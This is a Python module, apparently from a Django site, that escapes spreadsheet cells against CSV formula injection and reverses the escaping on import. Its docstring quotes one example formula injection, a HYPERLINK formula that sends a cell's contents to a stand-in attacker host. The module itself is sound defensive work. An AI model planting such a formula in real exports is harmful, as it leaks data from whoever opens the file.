"""Files for spreadsheets, written so that no cell runs as a formula (CSV or formula
injection: a name `=HYPERLINK("http://evil.example/"&A1,"x")` in an export runs when a
journalist opens it). Every CSV and XLSX the site writes goes through here: the open data,
the admin's exports and django-import-export's (the formats below, named in
config/settings.py). docs/security.md.

A text cell that starts with = + - @, a tab or a carriage return is written with an
apostrophe before it, which spreadsheets show as text. A number stays a number: a cell
that is a number (an int, or text such as "-5" or "-12.5") cannot be a formula.
Reading a file back (django-import-export's import) removes the apostrophe again, so
that an export re-imports unchanged.

django-import-export's own IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is not enough: it
only drops a leading "=" (leaving + - @, and "==1+2" becomes "=1+2"), and turns every cell,
numbers and empty ones included, into text."""

import csv
import re
from collections.abc import Iterable
from typing import Any

import tablib
from import_export.formats import base_formats

# What spreadsheet programs read as the start of a formula (OWASP, "CSV Injection").
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")


def _starts_formula(text: str) -> bool:
    return text.startswith(FORMULA_PREFIXES) and not NUMBER.fullmatch(text)


def spreadsheet_safe(value: Any) -> Any:
    """The cell as a spreadsheet may show it without running it: text that would start a
    formula gets an apostrophe in front (as does text that already reads as one, so that
    spreadsheet_value gives back exactly what was written); anything else is unchanged."""
    if isinstance(value, str) and _starts_formula(value.lstrip("'")):
        return "'" + value
    return value


def spreadsheet_value(value: Any) -> Any:
    """The value spreadsheet_safe wrote this cell for."""
    if isinstance(value, str) and value.startswith("'") and _starts_formula(value[1:].lstrip("'")):
        return value[1:]
    return value


class SpreadsheetSafeWriter:
    """csv.writer, every cell through spreadsheet_safe."""

    def __init__(self, file, **options):
        self.writer = csv.writer(file, **options)

    def writerow(self, row: Iterable) -> None:
        self.writer.writerow([spreadsheet_safe(value) for value in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(file, **options) -> SpreadsheetSafeWriter:
    """The writer of every CSV the site serves (see the module's docstring)."""
    return SpreadsheetSafeWriter(file, **options)


class SpreadsheetSafeFormat:
    """For django-import-export's formats: cells made safe on export, read back on
    import."""

    def export_data(self, dataset: tablib.Dataset, **kwargs):
        return super().export_data(_each_cell(dataset, spreadsheet_safe), **kwargs)

    def create_dataset(self, in_stream, **kwargs) -> tablib.Dataset:
        return _each_cell(super().create_dataset(in_stream, **kwargs), spreadsheet_value)


def _each_cell(dataset: tablib.Dataset, function) -> tablib.Dataset:
    rows = ([function(value) for value in row] for row in dataset)
    return tablib.Dataset(*rows, headers=dataset.headers, title=dataset.title)


class CSV(SpreadsheetSafeFormat, base_formats.CSV):
    pass


class XLSX(SpreadsheetSafeFormat, base_formats.XLSX):
    pass


# The formats staff import and export in the admin (IMPORT_EXPORT_FORMATS).
FORMATS = [CSV, XLSX]
